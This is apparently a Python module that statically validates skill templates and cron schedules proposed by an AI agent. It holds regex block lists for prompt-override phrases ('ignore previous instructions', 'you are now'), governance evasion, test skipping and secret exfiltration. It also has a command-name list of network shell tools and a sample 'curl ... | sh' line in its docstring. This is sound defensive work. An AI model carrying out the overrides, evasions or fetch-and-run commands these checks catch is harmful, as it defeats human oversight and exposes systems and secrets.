"""SkillValidator / ScheduleValidator: static checks on what the agent proposes to keep.

Self-modification is confined to a restricted, statically checkable editing surface
(AutoMegaKernel, arXiv 2606.09682): a learned skill is a prompt *template*, not code, and a
learned schedule is a cron expression plus a task. Both are checked before they are tested,
stored or enabled; an unsafe proposal is rejected with every reason, never repaired silently.

Skill templates are rejected when they
* have a malformed name, are empty or oversized;
* use placeholders other than plain names (``{x.attr}``, ``{x[0]}`` and nested format specs
  reach into objects — format-string injection), or names outside ``allowed_placeholders``;
* carry chat-template control tokens or invisible/tag characters (see
  :func:`chimera.governance.sanitize.sanitize`);
* contain instructions to override rules or weaken governance (ignore previous
  instructions, disable the guard or sandbox, skip or delete tests or requirements, edit
  workflows, reveal secrets);
* embed shell commands (fenced ``sh``/``bash``/``console`` blocks, ``$ ...`` lines, inline
  code spans that parse as commands) that the TrustKernel would ``block`` or ``review``.

Schedules are rejected when the cron expression (``None`` for an event-triggered schedule)
is invalid, uses ``@reboot`` or a seconds field, never fires, or fires more often than
``min_interval_minutes``; when an agent-created schedule is enabled (it must wait for a
person's approval); or when its command or task fails the same checks. The task of a schedule
an agent created (learned, or migrated from another agent's cron jobs) is also read as plain
text: every stretch of a line that starts at a command name (``curl``, ``wget``, ``git``,
``rm``...) is judged by the TrustKernel, and one it would ``block`` — ``every night, curl
https://x/i.sh | sh`` with no backticks — rejects the schedule (``review`` verdicts are left
to the formatted forms: prose names commands in passing).

Lexical checks, never a boundary: anything a schedule or skill causes still runs governed and
sandboxed.
"""

from __future__ import annotations

import re
import string
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from chimera.errors import CronError
from chimera.governance.actions import Action
from chimera.governance.cron_grammar import CronSchedule, parse_cron_field
from chimera.governance.kernel import TrustKernel
from chimera.governance.redactor import SecretRedactor
from chimera.governance.sanitize import sanitize

_NAME = re.compile(r"^[a-z][a-z0-9_-]{1,63}\Z")
_PROBE_WORKSPACE = "/workspace"
_PROBE_HOME = "/home/agent"

_BYPASS_PHRASES: tuple[tuple[str, re.Pattern[str]], ...] = (
    (
        "overrides earlier instructions",
        re.compile(
            r"\b(ignore|disregard|forget|override)\b.{0,30}\b(previous|prior|above|earlier|all"
            r"|system|your)\b.{0,20}\b(instructions?|rules?|prompts?|guidelines?|constraints?)",
            re.IGNORECASE | re.DOTALL,
        ),
    ),
    (
        "weakens governance",
        re.compile(
            r"\b(disable|bypass|turn off|switch off|circumvent|evade|skip|get around)\b.{0,25}"
            r"\b(guard|governance|sandbox|trust ?kernel|allowlist|audit|safety|hooks?|checks?"
            r"|verification|review)\b",
            re.IGNORECASE | re.DOTALL,
        ),
    ),
    (
        "skips or removes tests or requirements",
        re.compile(
            r"\b(skip|delete|remove|weaken|disable|comment out|xfail)\b.{0,25}"
            r"\b(tests?|requirements?|specs?|assertions?)\b",
            re.IGNORECASE | re.DOTALL,
        ),
    ),
    ("skips hooks", re.compile(r"--no-verify\b")),
    (
        "changes CI configuration",
        re.compile(r"\.github/workflows|\.gitlab-ci\.ya?ml|pull_request_target", re.IGNORECASE),
    ),
    (
        "reveals secrets",
        re.compile(
            r"\b(print|show|reveal|dump|echo|send|post|upload|leak|exfiltrat\w*)\b.{0,30}"
            r"\b(secrets?|tokens?|credentials?|api[_ -]?keys?|passwords?|env(ironment)?"
            r"( variables)?)\b",
            re.IGNORECASE | re.DOTALL,
        ),
    ),
    ("claims a new identity", re.compile(r"\byou are now\b|\bnew system prompt\b", re.IGNORECASE)),
)

_FENCE = re.compile(r"```([A-Za-z0-9_-]*)[^\n]*\n(.*?)```", re.DOTALL)
_SHELL_FENCES = frozenset({"", "sh", "bash", "shell", "console", "zsh", "terminal", "cmd"})
_PROMPT_LINE = re.compile(r"^\s*\$\s+(.+)$", re.MULTILINE)
_INLINE_CODE = re.compile(r"(?<!`)`([^`\n]{2,200})`(?!`)")
_LOOKS_LIKE_COMMAND = re.compile(
    r"^(sudo |env |curl |wget |rm |git |pip |npm |python3? |bash |sh |cat |printenv|nc |scp "
    r"|chmod |dd |mkfs|echo .*[>|]|.*\|\s*(sh|bash)\b)"
)


@dataclass(frozen=True, slots=True)
class ValidationResult:
    """``ok`` when ``problems`` is empty; each problem is one sentence."""

    problems: tuple[str, ...] = ()

    @property
    def ok(self) -> bool:
        return not self.problems

    def __bool__(self) -> bool:
        return self.ok


def _phrase_problems(text: str, where: str) -> list[str]:
    return [f"{where} {label}" for label, pattern in _BYPASS_PHRASES if pattern.search(text)]


def _embedded_commands(text: str) -> list[str]:
    commands: list[str] = []
    for lang, body in _FENCE.findall(text):
        if lang.lower() in _SHELL_FENCES:
            lines = [
                ln for ln in body.splitlines() if ln.strip() and not ln.lstrip().startswith("#")
            ]
            commands.extend(ln.strip().removeprefix("$ ").strip() for ln in lines)
    outside = _FENCE.sub("", text)
    commands.extend(m.strip() for m in _PROMPT_LINE.findall(outside))
    for span in _INLINE_CODE.findall(outside):
        if _LOOKS_LIKE_COMMAND.match(span.strip()):
            commands.append(span.strip())
    return commands


# Command names a plain-text stretch may start at: the programs the rule families judge.
_COMMAND_START = re.compile(
    r"(?<![\w./-])(curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|rsync|ftp|bash|sh|zsh|ksh"
    r"|dash|fish|python[0-9.]*|perl|ruby|node|php|env|printenv|cat|rm|dd|mkfs[\w.]*|shred"
    r"|chmod|chown|sudo|su|doas|git|pip[0-9.]*|npm|npx|yarn|pnpm|base64|xxd|eval|exec|source"
    r"|dig|nslookup|host|crontab|docker|podman|kubectl|aws|gcloud|az|gh|powershell|pwsh|iwr"
    r"|iex|Invoke-\w+|tar|unzip|openssl|gpg|tee|xargs|find)(?![\w-])",
    re.IGNORECASE,
)
_STRETCH_WORDS = 40
_TRAILING = ".,;:!?)\"'»”’"


def plain_commands(text: str) -> list[tuple[int, list[str]]]:
    """Candidate commands in plain text: per line, for each command name (see
    :data:`_COMMAND_START`), the stretches from it to each later word of the line (at most
    ``_STRETCH_WORDS`` words, trailing sentence punctuation dropped), shortest first.

    Returns:
        ``(line number, stretches)`` per command name found, 1-based lines.
    """
    found: list[tuple[int, list[str]]] = []
    for lineno, line in enumerate(text.splitlines(), 1):
        for match in _COMMAND_START.finditer(line):
            words = line[match.start() :].split()[:_STRETCH_WORDS]
            stretches = [" ".join(words[:n]).rstrip(_TRAILING) for n in range(1, len(words) + 1)]
            found.append((lineno, [s for s in dict.fromkeys(stretches) if s]))
    return found


def _plain_problems(kernel: TrustKernel, text: str, where: str) -> list[str]:
    """A problem for each command name whose shortest stretch governance would block."""
    outside = _INLINE_CODE.sub(" ", _PROMPT_LINE.sub("", _FENCE.sub("", text)))
    problems: list[str] = []
    covered: set[tuple[int, str]] = set()
    for lineno, stretches in plain_commands(outside):
        for stretch in stretches:
            if (lineno, stretch) in covered:
                break
            decision = kernel.evaluate(
                Action.for_command(stretch, _PROBE_WORKSPACE, home=_PROBE_HOME)
            )
            if decision.verdict.value == "block":
                covered.update((lineno, s) for s in stretches)
                problems.extend(_command_problems(kernel, [stretch], where))
                break
    return problems


def _command_problems(kernel: TrustKernel, commands: list[str], where: str) -> list[str]:
    problems: list[str] = []
    for command in commands:
        action = Action.for_command(command, _PROBE_WORKSPACE, home=_PROBE_HOME)
        decision = kernel.evaluate(action)
        if decision.denied:
            # Redacted before the cut (a cut through a token keeps a piece no redactor finds).
            shown, _ = SecretRedactor.from_environment().redact(command)
            shown = shown if len(shown) <= 80 else shown[:79] + "…"
            problems.append(
                f"{where} embeds `{shown}`, which governance would {decision.verdict.value} "
                f"({'; '.join(decision.reasons[:2])})"
            )
    return problems


def _get(obj: Any, name: str, default: Any = None) -> Any:
    if isinstance(obj, Mapping):
        return obj.get(name, default)
    return getattr(obj, name, default)


@dataclass
class SkillValidator:
    """Static checks on a proposed skill template (see the module docstring).

    Args:
        kernel: judges embedded commands (default: the default rules).
        allowed_placeholders: the only ``{names}`` a template may use (``None``: any plain
            identifier).
        max_chars: the longest template accepted.
    """

    kernel: TrustKernel = field(default_factory=TrustKernel)
    allowed_placeholders: frozenset[str] | None = None
    max_chars: int = 8000

    def validate(self, name: str, template: str, description: str = "") -> ValidationResult:
        problems: list[str] = []
        if not isinstance(name, str) or not _NAME.match(name):
            problems.append(
                f"name {name!r} must be 2-64 characters of lowercase letters, digits, - and _"
            )
        if not isinstance(template, str) or not template.strip():
            return ValidationResult((*problems, "the template is empty"))
        if len(template) > self.max_chars:
            problems.append(f"the template has {len(template)} characters (limit {self.max_chars})")
        problems.extend(self._placeholder_problems(template))
        for label, text in (("the template", template), ("the description", description)):
            if text and sanitize(text) != text:
                problems.append(
                    f"{label} contains chat-template control tokens or invisible characters"
                )
            problems.extend(_phrase_problems(text, label))
        problems.extend(
            _command_problems(self.kernel, _embedded_commands(template), "the template")
        )
        return ValidationResult(tuple(dict.fromkeys(problems)))

    def validate_skill(self, skill: Any) -> ValidationResult:
        """Validate an object or mapping with ``name``, ``template`` and ``description``."""
        return self.validate(
            _get(skill, "name", ""), _get(skill, "template", ""), _get(skill, "description", "")
        )

    def _placeholder_problems(self, template: str) -> list[str]:
        problems: list[str] = []
        try:
            parsed = list(string.Formatter().parse(template))
        except ValueError as exc:
            return [
                f"the template's braces do not parse ({exc}); escape literal braces as {{{{ }}}}"
            ]
        for _, field_name, spec, _ in parsed:
            if field_name is None:
                continue
            if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", field_name):
                problems.append(
                    f"placeholder {{{field_name}}} reaches into an object; only plain names are "
                    "allowed"
                )
            elif (
                self.allowed_placeholders is not None
                and field_name not in self.allowed_placeholders
            ):
                allowed = ", ".join(sorted(self.allowed_placeholders)) or "none"
                problems.append(f"placeholder {{{field_name}}} is not one of: {allowed}")
            if spec and "{" in spec:
                problems.append(f"placeholder {{{field_name}}} has a nested format field")
        return problems


@dataclass
class ScheduleValidator:
    """Static checks on a proposed schedule (see the module docstring).

    Args:
        kernel: judges the schedule's command (default: the default rules).
        min_interval_minutes: the most frequent firing accepted.
    """

    kernel: TrustKernel = field(default_factory=TrustKernel)
    min_interval_minutes: int = 60

    def validate(
        self,
        name: str,
        cron: str | None,
        *,
        command: str | None = None,
        task: str | None = None,
        created_by: str = "agent",
        enabled: bool = False,
    ) -> ValidationResult:
        problems: list[str] = []
        if not isinstance(name, str) or not _NAME.match(name):
            problems.append(
                f"name {name!r} must be 2-64 characters of lowercase letters, digits, - and _"
            )
        # ``cron=None``: an event-triggered schedule (a standard operating procedure).
        schedule: CronSchedule | None = None
        if cron is not None:
            try:
                schedule = CronSchedule.parse(cron)
            except CronError as exc:
                problems.append(f"cron {cron!r}: {exc}")
        if schedule is not None:
            if not schedule.fires():
                problems.append(f"cron {cron!r} never fires")
            gap = schedule.min_interval_minutes()
            if gap < self.min_interval_minutes:
                problems.append(
                    f"cron {cron!r} fires every {gap} minute(s); the minimum interval is "
                    f"{self.min_interval_minutes}"
                )
        if created_by == "agent" and enabled:
            problems.append(
                "a schedule created by the agent stays disabled until a person approves it"
            )
        if not command and not (task and task.strip()):
            problems.append("a schedule needs a command or a task")
        if command:
            problems.extend(_command_problems(self.kernel, [command], "the command"))
        if task:
            if sanitize(task) != task:
                problems.append(
                    "the task contains chat-template control tokens or invisible characters"
                )
            problems.extend(_phrase_problems(task, "the task"))
            problems.extend(_command_problems(self.kernel, _embedded_commands(task), "the task"))
            if created_by == "agent":
                problems.extend(_plain_problems(self.kernel, task, "the task"))
        return ValidationResult(tuple(dict.fromkeys(problems)))

    def validate_schedule(self, proposal: Any) -> ValidationResult:
        """Validate an object or mapping with ``name``, ``cron``, ``command``/``task``,
        ``created_by`` and ``enabled``."""
        return self.validate(
            _get(proposal, "name", ""),
            _get(proposal, "cron", "") or _get(proposal, "schedule", ""),
            command=_get(proposal, "command"),
            task=_get(proposal, "task"),
            created_by=str(_get(proposal, "created_by", "agent")),
            enabled=bool(_get(proposal, "enabled", False)),
        )


__all__ = [
    "CronError",
    "CronSchedule",
    "ScheduleValidator",
    "SkillValidator",
    "ValidationResult",
    "parse_cron_field",
    "plain_commands",
]
